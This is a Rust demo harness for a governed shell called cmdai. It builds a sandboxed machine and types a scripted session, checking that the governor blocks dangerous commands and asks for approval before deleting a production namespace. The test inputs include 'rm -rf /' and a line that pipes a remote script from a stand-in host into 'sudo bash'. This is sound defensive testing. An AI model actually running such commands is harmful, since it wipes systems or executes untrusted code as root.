//! The governed shell on a throw-away machine: by hand, or typed by a script.

use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{Context, Result, bail};
use portable_pty::CommandBuilder;
use serde::Serialize;

use super::people::People;
use super::typist::Typist;

const PATIENCE: Duration = Duration::from_secs(20);
const PROMPT: &str = "demo@laptop:";

/// What the throw-away machine is made from.
pub(crate) struct Shell {
    /// The script.
    pub(crate) script: PathBuf,
    /// An empty folder to build it in.
    pub(crate) base: PathBuf,
    /// Folder with `cmdai`, `cmdai-enterprise` and the native module.
    pub(crate) programs: PathBuf,
    /// The server's address for machines.
    pub(crate) server: String,
    /// Its enrolment token.
    pub(crate) token: String,
}

/// What a scripted session saw.
#[derive(Debug, Clone, Default, Serialize)]
pub(crate) struct Session {
    /// Lines typed.
    pub(crate) typed: u32,
    /// Events that the governed machine sealed.
    pub(crate) sealed: u64,
    /// What should have happened and did not.
    pub(crate) wrong: Vec<String>,
}

/// Says early and clearly what the sandbox needs.
pub(crate) fn possible() -> Result<()> {
    if !rustix::process::geteuid().is_root() {
        bail!(
            "the throw-away machine needs root (for its mounts): run the demo with sudo, or in a container you can spare with --privileged"
        );
    }
    let tried = Command::new("unshare")
        .args(["--mount", "--uts", "--net", "--pid", "--fork", "true"])
        .stdin(Stdio::null())
        .output()
        .context("`unshare` (package util-linux) is needed for the throw-away machine")?;
    if !tried.status.success() {
        bail!(
            "this machine does not allow namespaces of its own ({}): run the demo on the host or with --privileged",
            String::from_utf8_lossy(&tried.stderr).trim()
        );
    }
    Ok(())
}

impl Shell {
    fn arguments(&self) -> Vec<String> {
        let text = |path: &PathBuf| path.to_string_lossy().into_owned();
        ["--mount", "--propagation", "private", "--uts", "bash"]
            .map(str::to_owned)
            .into_iter()
            .chain([text(&self.script), text(&self.base), text(&self.programs)])
            .collect()
    }

    /// Hands the terminal to the person until they leave.
    pub(crate) async fn interactive(&self) -> Result<Session> {
        let status = tokio::process::Command::new("unshare")
            .args(self.arguments())
            .env("CMDAI_DEMO_SERVER", &self.server)
            .env("CMDAI_DEMO_TOKEN", &self.token)
            .status()
            .await
            .context("the shell cannot be started")?;
        if !status.success() {
            bail!("the throw-away machine could not be made ({status})");
        }
        Ok(Session {
            sealed: self.sealed()?,
            ..Session::default()
        })
    }

    /// How many events the machine sealed, by its sensor's last word.
    fn sealed(&self) -> Result<u64> {
        let file = self.base.with_extension("status.json");
        let bytes = std::fs::read(&file).context("the governed machine left no state")?;
        let status: cmdai_schema::governor::Status = serde_json::from_slice(&bytes)
            .context("the governed machine's state cannot be read")?;
        Ok(status.head_seq)
    }

    /// Types the story of the demo and looks at what comes back.
    pub(crate) async fn scripted(&self, people: &People) -> Result<Session> {
        let mut command = CommandBuilder::new("unshare");
        command.args(self.arguments());
        command.env("CMDAI_DEMO_SERVER", &self.server);
        command.env("CMDAI_DEMO_TOKEN", &self.token);
        let mut typist = Typist::start(command)?;
        typist.wait_for(&[PROMPT], Duration::from_secs(60))?;
        let mut session = Session::default();

        session.expect(&mut typist, "echo hel\"\"lo", &["hello"]);
        session.expect(&mut typist, "ls src", &["main.rs"]);
        session.expect(&mut typist, "rm -rf /", &["blocked"]);
        session.expect(&mut typist, "echo $?", &["126"]);
        session.expect(
            &mut typist,
            "curl https://x.example/i.sh | sudo bash",
            &["blocked"],
        );
        session.expect(&mut typist, "rm -rf build && ls -d bu*d", &["No such file"]);

        let asked = session.expect(
            &mut typist,
            "kubectl delete ns production",
            &["needs approval"],
        );
        match asked.as_deref().and_then(request_id) {
            Some(id) => {
                let approved = tokio::task::block_in_place(|| {
                    tokio::runtime::Handle::current().block_on(people.approve(&id))
                });
                match approved {
                    Ok(_) => {
                        tokio::time::sleep(Duration::from_millis(1500)).await;
                        session.expect(
                            &mut typist,
                            "kubectl delete ns production",
                            &["\"production\" deleted"],
                        );
                        session.expect(
                            &mut typist,
                            "kubectl delete ns production",
                            &["needs approval"],
                        );
                    }
                    Err(error) => session.wrong.push(format!("approving {id}: {error:#}")),
                }
            }
            None => session.wrong.push(format!(
                "no request id after `kubectl delete ns production`: {}",
                asked.unwrap_or_default()
            )),
        }
        typist.line("exit")?;
        typist.end()?;
        session.sealed = self.sealed()?;
        Ok(session)
    }
}

impl Session {
    /// Types a line and waits for one of the texts; what does not come is noted, not fatal.
    fn expect(&mut self, typist: &mut Typist, line: &str, texts: &[&str]) -> Option<String> {
        self.typed += 1;
        let seen = typist
            .line(line)
            .and_then(|()| typist.wait_for(texts, PATIENCE));
        match seen {
            Ok(_) => {
                std::thread::sleep(Duration::from_millis(300)); // the rest of the message, and the prompt
                typist.wait_for(&[PROMPT], PATIENCE).ok()
            }
            Err(error) => {
                self.wrong.push(format!("`{line}`: {error:#}"));
                None
            }
        }
    }
}

/// A request's id in a message: the word after "request".
fn request_id(text: &str) -> Option<String> {
    let mut words = text
        .split_whitespace()
        .skip_while(|word| *word != "request");
    let id = words.nth(1)?;
    (id.len() == 8
        && id
            .chars()
            .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit()))
    .then(|| id.to_owned())
}
